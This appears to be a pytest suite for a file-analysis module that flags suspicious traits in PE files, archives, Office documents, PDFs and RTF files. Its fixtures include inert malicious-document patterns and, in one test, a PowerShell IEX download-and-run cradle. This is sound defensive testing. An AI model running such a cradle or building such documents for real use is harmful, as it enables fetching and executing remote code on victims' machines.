import gzip
import hashlib
import io
import os
import sys
import tarfile
import zipfile
from pathlib import Path

from .conftest import artifact_set, taxonomies
from .pe_builder import build_pe

FLAVOR = "FileInfo"
IMPORTS = {"KERNEL32.dll": ["CreateProcessA", "VirtualAlloc"], "USER32.dll": ["MessageBoxA"]}


def run(make_job, data: bytes, filename: str, **kwargs) -> dict:
    report = make_job(FLAVOR, "file", file_bytes=data, filename=filename, **kwargs).run()
    assert report["success"] is True, report
    return report


def test_hashes_size_and_artifacts(make_job):
    data = b"hello neurocortex\n" * 100
    report = run(make_job, data, "hello.txt", config={"auto_extract_artifacts": True})
    full = report["full"]
    assert full["size"] == len(data)
    assert full["hashes"] == {
        name: hashlib.new(name, data).hexdigest() for name in ("md5", "sha1", "sha256", "sha512")
    }
    assert full["type"]["label"] == "text"
    assert artifact_set(report) == {
        ("hash", hashlib.new(n, data).hexdigest()) for n in ("md5", "sha1", "sha256")
    }


def test_pe_header_facts(make_job):
    report = run(make_job, build_pe(IMPORTS), "tool.exe")
    pe = report["full"]["pe"]
    assert report["full"]["type"]["label"] == "PE32 executable (i386)"
    assert taxonomies(report)["Filetype"] == ("info", "PE32 executable (i386)")
    assert pe["compiled"] == "2023-11-14T22:13:20Z"
    assert pe["subsystem"] == "Windows GUI"
    assert pe["aslr"] is True and pe["dep"] is True
    assert [s["name"] for s in pe["sections"]] == [".text", ".idata"]
    assert pe["imports"] == [
        {"dll": "KERNEL32.dll", "functions": ["CreateProcessA", "VirtualAlloc"]},
        {"dll": "USER32.dll", "functions": ["MessageBoxA"]},
    ]
    expected = hashlib.md5(b"kernel32.createprocessa,kernel32.virtualalloc,user32.messageboxa").hexdigest()
    assert pe["imphash"] == expected
    assert "Packer" not in taxonomies(report)


def test_packed_dll(make_job):
    report = run(make_job, build_pe(IMPORTS, dll=True, packed=True), "helper.dll")
    tax = taxonomies(report)
    assert tax["Filetype"] == ("info", "PE32 DLL (i386)")
    assert tax["Packer"] == ("suspicious", "UPX")
    assert tax["WritableExecutableSection"] == ("suspicious", "UPX1")


def test_double_extension_and_mismatch(make_job):
    tax = taxonomies(run(make_job, build_pe(IMPORTS), "invoice.pdf.exe"))
    assert tax["DoubleExtension"] == ("suspicious", ".pdf.exe")
    assert "ExtensionMismatch" not in tax  # .exe really is an executable

    tax = taxonomies(run(make_job, build_pe(IMPORTS), "invoice.pdf"))
    assert tax["ExtensionMismatch"] == ("suspicious", ".pdf is executable")


def test_msdos_stub_without_pe_header(make_job):
    report = run(make_job, b"MZ" + b"\x00" * 200, "old.com")
    assert report["full"]["type"]["label"] == "MS-DOS executable"


def test_elf(make_job):
    data = Path(os.path.realpath(sys.executable)).read_bytes()
    report = run(make_job, data, "python")
    assert report["full"]["type"]["key"] == "elf"
    assert report["full"]["elf"]["class"] in ("ELF32", "ELF64")
    assert report["full"]["type"]["label"].startswith("ELF")


def test_zip_with_executables(make_job):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("readme.txt", "read me")
        archive.writestr("invoice.pdf.exe", build_pe(IMPORTS))
        archive.writestr("photo.jpg", build_pe(IMPORTS))  # an executable under an image name
    report = run(make_job, buffer.getvalue(), "invoice.zip")
    full = report["full"]
    assert full["type"]["label"] == "ZIP archive"
    assert [m["name"] for m in full["zip"]["members"]] == ["readme.txt", "invoice.pdf.exe", "photo.jpg"]
    assert full["zip"]["executables"] == ["invoice.pdf.exe", "photo.jpg"]
    assert taxonomies(report)["ArchiveExecutables"] == ("suspicious", 2)
    assert "Encrypted" not in taxonomies(report)


def test_encrypted_zip(make_job):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("secret.txt", "x" * 100)
    data = bytearray(buffer.getvalue())
    # Set the "encrypted" flag in the local and central headers, as a password-protected archive has it.
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    report = run(make_job, bytes(data), "docs.zip")
    assert taxonomies(report)["Encrypted"] == ("suspicious", True)


def test_macro_document_with_remote_template(make_job):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
        archive.writestr(
            "word/_rels/settings.xml.rels",
            '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="http://203.0.113.5/t.dotm" TargetMode="External"/></Relationships>',
        )
    report = run(make_job, buffer.getvalue(), "report.docm")
    tax = taxonomies(report)
    assert tax["Filetype"] == ("info", "macro-enabled Word document (OOXML)")
    assert tax["Macros"] == ("suspicious", True)
    assert tax["ExternalRelationship"] == ("suspicious", "http://203.0.113.5/t.dotm")
    assert "ExtensionMismatch" not in tax


def test_plain_docx_is_not_flagged(make_job):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    tax = taxonomies(run(make_job, buffer.getvalue(), "letter.docx"))
    assert tax["Filetype"] == ("info", "Word document (OOXML)")
    assert {level for level, _ in tax.values()} == {"info"}


def test_pdf_active_content(make_job):
    pdf = (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
        b"2 0 obj << /S /J#61vaScript /JS (app.alert(1)) >> endobj\n"
        b"3 0 obj << /Type /Page >> endobj\n4 0 obj << /Type /Pages >> endobj\n%%EOF\n"
    )
    report = run(make_job, pdf, "doc.pdf")
    full = report["full"]
    assert full["pdf"]["version"] == "1.7"
    assert full["pdf"]["pages"] == 1
    assert full["pdf"]["keywords"] == {"JavaScript": 1, "JS": 1, "OpenAction": 1}
    tax = taxonomies(report)
    assert tax["ActiveContent"] == ("suspicious", "JS, JavaScript")
    assert tax["ObfuscatedNames"] == ("suspicious", 1)


def test_clean_pdf(make_job):
    tax = taxonomies(run(make_job, b"%PDF-1.4\n1 0 obj << /Type /Page >> endobj\n%%EOF\n", "ok.pdf"))
    assert tax["Filetype"] == ("info", "PDF document")
    assert "ActiveContent" not in tax


def test_rtf_with_equation_object(make_job):
    rtf = rb"{\rtf1{\object\objemb{\*\objclass Equation.3}\objdata 01050000020000000b0000004571756174696f6e2e3300}}"
    tax = taxonomies(run(make_job, rtf, "cv.doc"))
    assert tax["Filetype"] == ("info", "Rich Text Format document")
    assert tax["EmbeddedObjects"] == ("suspicious", 1)
    assert tax["EquationEditor"] == ("suspicious", True)
    assert "ExtensionMismatch" not in tax  # .doc files are often RTF


def test_ole2_word_with_macros(make_job):
    data = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 504
        + "WordDocument".encode("utf-16-le")
        + b"\x00" * 100
    )
    data += "_VBA_PROJECT".encode("utf-16-le") + b"\x00" * 100
    tax = taxonomies(run(make_job, data, "old.doc"))
    assert tax["Filetype"] == ("info", "Word 97-2003 document")
    assert tax["Macros"] == ("suspicious", True)


def test_gzip_original_name_and_tar_members(make_job):
    tar_buffer = io.BytesIO()
    with tarfile.open(fileobj=tar_buffer, mode="w") as archive:
        payload = build_pe(IMPORTS)
        info = tarfile.TarInfo("bin/dropper.exe")
        info.size = len(payload)
        archive.addfile(info, io.BytesIO(payload))
    gz_buffer = io.BytesIO()
    with gzip.GzipFile(filename="bundle.tar", fileobj=gz_buffer, mode="wb", mtime=0) as compressed:
        compressed.write(tar_buffer.getvalue())
    report = run(make_job, gz_buffer.getvalue(), "bundle.tgz")
    full = report["full"]
    assert full["gzip"]["originalName"] == "bundle.tar"
    assert full["tar"]["executables"] == ["bin/dropper.exe"]
    assert full["type"]["label"] == "gzip compressed data (tar)"
    assert taxonomies(report)["ArchiveExecutables"] == ("suspicious", 1)


def test_images_and_scripts(make_job):
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 100
    assert run(make_job, png, "logo.png")["full"]["type"]["label"] == "PNG image"
    report = run(make_job, b"#!/usr/bin/env python3\nprint('x')\n", "run")
    assert report["full"]["type"] == {
        "key": "script",
        "label": "python3 script",
        "mime": "text/x-script",
        "family": "script",
    }
    report = run(make_job, b"IEX (New-Object Net.WebClient).DownloadString('http://x')", "a.ps1")
    assert report["full"]["type"]["label"] == "PowerShell script"


def test_high_entropy_unknown_data(make_job):
    report = run(make_job, os.urandom(256 * 1024), "blob.bin")
    level, value = taxonomies(report)["Entropy"]
    assert level == "suspicious"
    assert value > 7.9


def test_high_entropy_archive_is_normal(make_job):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("random.bin", os.urandom(256 * 1024))
    level, value = taxonomies(run(make_job, buffer.getvalue(), "r.zip"))["Entropy"]
    assert level == "info" and value > 7.9


def test_damaged_files_keep_hashes_and_type(make_job):
    truncated = build_pe(IMPORTS)[:0x150]  # headers cut in the middle of the section table
    report = run(make_job, truncated, "cut.exe")
    assert report["full"]["hashes"]["sha256"] == hashlib.sha256(truncated).hexdigest()
    assert report["full"]["type"]["key"] == "pe"

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", "a")
    data = bytearray(buffer.getvalue())
    data[data.index(b"PK\x01\x02") + 6] = 0xFF  # "version needed to extract" that no tool knows
    report = run(make_job, bytes(data), "broken.zip")
    assert report["full"]["zip"]["error"].startswith("cannot read the ZIP directory")
    assert taxonomies(report)["Damaged"][0] == "suspicious"


def test_empty_file(make_job):
    report = run(make_job, b"", "empty.txt")
    assert report["full"]["size"] == 0
    assert report["full"]["hashes"]["md5"] == "d41d8cd98f00b204e9800998ecf8427e"


def test_missing_file_is_an_error(make_job):
    job = make_job(FLAVOR, "file", file_bytes=b"x", filename="x.bin")
    (job.directory / "input" / "attachment4711").unlink()
    report = job.run()
    assert report["success"] is False
    assert report["errorMessage"] == "The file to analyze is missing from the job's input directory."
